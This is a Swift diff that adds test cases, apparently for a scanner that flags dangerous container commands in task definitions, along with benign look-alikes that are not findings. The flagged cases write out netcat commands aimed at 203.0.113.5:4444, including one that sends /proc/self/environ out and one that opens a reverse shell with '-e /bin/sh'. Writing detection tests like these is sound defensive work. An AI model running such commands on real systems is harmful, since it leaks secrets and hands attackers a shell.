@@ -1,0 +1,37 @@
+import Incident
+
+extension FindingCase {
+  /// What is started with the runner's rights.
+  static let starts: [FindingCase] = [
+    FindingCase("E02", .critical) {
+      $0.command("sh", "-c", "nc 203.0.113.5 4444 < /proc/self/environ")
+    } not: {
+      $0.command("sh", "-c", "rsync -e ssh a b; sync 1; func nc2")
+    },
+    FindingCase("E02", .critical) {
+      $0.command("nc", "203.0.113.5", "4444", "-e", "/bin/sh")
+    } not: {
+      $0.command("deploy", "--state", "nc")
+      $0.command("rsync", "-e", "ssh")
+    },
+    FindingCase("E02", .critical) {
+      $0.command("/bin/busybox", "nc", "203.0.113.5", "4444")
+    } not: {
+      $0.define(
+        by: StepStory.manager, at: "11:00:00", container: StepStory.variable("STATE", "nc"))
+    },
+    FindingCase("E02", .critical) {
+      $0.command("sh", "-c", "sh -c 'ncat 203.0.113.5 1'")
+    } not: {
+      $0.command("sh", "-c", "vnc 203.0.113.5; nc-report 1")
+    },
+  ]
+}
+
+extension StepStory {
+  /// RegisterTaskDefinition with the command of a container.
+  mutating func command(_ words: String...) {
+    let list = words.map { #""\#($0)""# }.joined(separator: ",")
+    define(by: Self.manager, at: "11:00:00", container: #","command":[\#(list)]"#)
+  }
+}
